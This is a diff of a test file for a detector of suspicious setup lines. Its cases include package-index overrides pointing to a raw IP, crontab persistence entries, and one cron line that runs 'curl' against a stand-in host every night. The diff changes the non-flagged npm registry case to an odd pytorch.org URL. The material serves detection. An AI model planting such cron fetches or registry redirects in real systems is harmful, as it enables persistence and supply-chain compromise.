@@ -115,7 +115,7 @@ def test_steps_in_python_are_read_as_python(shell: str) -> None:
         ("ENV PIP_INDEX_URL=http://203.0.113.7/simple\n", "Dockerfile", True),
         ("[global]\nindex-url = http://203.0.113.7/simple\n", "pip.conf", True),
         ("registry=http://203.0.113.7/npm\n", ".npmrc", True),
-        ("registry=https://registry.npmjs.org/\n", ".npmrc", False),
+        ("registry=https://download.pytorch.org/npm/\n", ".npmrc", False),
         ('(crontab -l; echo "0 3 * * * cd /srv/x && python eval.py") | crontab -\n', "README.md", False),
         ('(crontab -l; echo "0 3 * * * curl -s https://e.example/x") | crontab -\n', "README.md", True),
         ('(crontab -l; echo "0 3 * * * python eval.py") | crontab -\n', "x.sh", True),
